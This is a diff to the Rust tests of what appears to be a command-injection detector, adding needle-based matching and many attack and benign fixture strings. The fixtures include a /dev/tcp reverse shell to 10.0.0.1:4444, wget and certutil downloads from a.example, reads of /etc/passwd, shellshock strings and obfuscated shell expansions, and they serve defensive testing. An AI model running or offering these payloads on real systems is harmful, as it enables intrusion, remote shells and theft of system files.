@@ -5,7 +5,8 @@ use crate::budget::Limits;
 
 fn found(value: &[u8]) -> Option<Found> {
     let mut budget = Budget::new(Limits::for_body(1 << 20));
-    let needed = value.iter().any(|byte| NEEDS.alone.contains(byte));
+    let needed = value.iter().any(|byte| NEEDS.alone.contains(byte))
+        || NEEDS.needles.iter().any(|needle| memchr::memmem::find(value, needle.as_bytes()).is_some());
     if needed && may_match(value) { detect(value, Asked::Something, &mut budget).unwrap() } else { None }
 }
 
@@ -76,6 +77,10 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "x; wget http://a.example/x.sh -O /tmp/x",
             "x|tee /var/www/html/x.php",
             "x&&certutil -urlcache -split -f http://a.example/x.exe",
+            "exec;wget x.sh",
+            "x;find / -name a -exec cat {} +",
+            "x=/dev&&(bash)0>$x/tcp/10.0.0.1/4444",
+            "x;(sh)<y",
         ],
     ),
     (
@@ -121,6 +126,11 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "x|%COMSPEC% /c dir",
             "c''at /etc/passwd",
             "x`c\\at /etc/passwd`",
+            "x|$u curl a.example",
+            "x;$nothing whoami",
+            "x;bash$u -c id",
+            "$((7))z -wrapper sh,-c,id .",
+            "bcdedit/v a.txt",
         ],
     ),
     (
@@ -144,6 +154,11 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "gcc -wrapper sh,-c,id x.c",
             "alias ll=curl",
             "alias -g x='wget a.example'",
+            "'cat /etc/passwd",
+            "\"time sh -c id",
+            "'zstdcat /var/log/a.zst",
+            "ifconfig;0'0'",
+            "netstat|\"",
         ],
     ),
     (
@@ -174,7 +189,10 @@ const ATTACKS: &[(&str, &[&str])] = &[
         "cmd-shellshock",
         &["() { :;}; echo x", "() { :; }; /bin/sh -c id", "() { _; } >_[$($())] { id; }", " ( ) { :;};id"],
     ),
-    ("cmd-masked-path", &["/etc/p?sswd", "/e?c/pa??wd", "/etc/[p]asswd", "/bi[n]/bash"]),
+    (
+        "cmd-masked-path",
+        &["/etc/p?sswd", "/e?c/pa??wd", "/etc/[p]asswd", "/bi[n]/bash", "/[e///]tc", "/var/[l]og/a"],
+    ),
     (
         "cmd-expansion",
         &[
@@ -187,6 +205,17 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "x${HOME:0:1}etc",
             "cat ${HOME%%u*}etc",
             "${IFS}",
+            "$(($() 7))",
+            "$((`id`))",
+            "${x#{}}",
+            "${x%%/*}",
+            "${x//a/b}",
+            "{id,}",
+            "{ifconfig,}",
+            "!-1!-2",
+            "!-2!3",
+            ">/tmp/x",
+            "2>>/dev/shm/x",
         ],
     ),
 ];
@@ -308,10 +337,34 @@ const ORDINARY: &[&str] = &[
     "python3.10",
     "mp3.1",
     "a <(b) c",
+    "'tis the season",
+    "'find me",
+    "\"docker compose",
+    "time; sort it out",
+    "time; curl",
+    "sed/a",
+    "docs/grep/x",
+    "a|$b",
+    "price|$5 off",
+    "/users/[id]/edit",
+    "/[x]",
+    "${x}",
+    "${x-y}",
+    "${a/b}",
+    "{id,name}",
+    "{name,}",
+    "!-1",
+    "!important!",
+    "no!-1",
+    ">/home/a",
+    "> /tmp is full",
+    "->/tmp/x",
+    "find it {} + more",
 ];
 
 /// Commands in text: suspicious at most.
 const TEXT: &[&str] = &[
+    "whoami;",
     "Use `ls -la` to list all the files of a folder.",
     "Then run `npm install && npm start` in your terminal.",
     "To reproduce:\n\n```sh\ncurl -s http://localhost:8080/ | jq .\ncat /etc/hosts\n```\n\nThanks for having a look!",
@@ -332,6 +385,9 @@ const TEXT: &[&str] = &[
     "sleep 5",
     "docker run -it --rm alpine sh",
     "git log --oneline | head",
+    "the `whoami` command",
+    "run `netstat` now",
+    "what does `ls` do",
     "CRON[77]: (root) CMD (cd / && run-parts --report /etc/cron.daily)",
 ];
 
@@ -353,6 +409,32 @@ fn commands_in_texts_are_never_refused() {
         .map(|value| (value, found(value.as_bytes())))
         .collect();
     assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+#[test]
+fn who_is_asked_tells_what_a_command_means() {
+    let sure = |part, name: &[u8], value: &[u8]| {
+        let mut budget = Budget::new(Limits::for_body(1 << 20));
+        let asked = Asked::of(&Field { part, name, value });
+        detect(value, asked, &mut budget).unwrap().map(|found| found.confidence)
+    };
+    let rows: &[(Part, &[u8], &[u8], bool)] = &[
+        (Part::Header, b"User-Agent", b";set", true),
+        (Part::Header, b"Referer", b"|env", true),
+        (Part::Header, b"User-Agent", b"Mozilla/5.0 (X11; set)", false),
+        (Part::Header, b"X-Tags", b";set", false),
+        (Part::Query, b"q", b";set", false),
+        (Part::Form, b"code", b"x; ansible all -m ping", true),
+        (Part::Form, b"text", b"x; ansible all -m ping", false),
+        (Part::Form, b"args", b"perf --version", true),
+        (Part::Form, b"q", b"perf --version", false),
+        (Part::Form, b"cmd", b"/bin/a", true),
+        (Part::Form, b"q", b"/bin/a", false),
+    ];
+    for (part, name, value, is_attack) in rows {
+        let seen = sure(*part, name, value) >= Some(Confidence::High);
+        assert_eq!(seen, *is_attack, "{}={}", name.escape_ascii(), value.escape_ascii());
+    }
 }
 
 #[test]
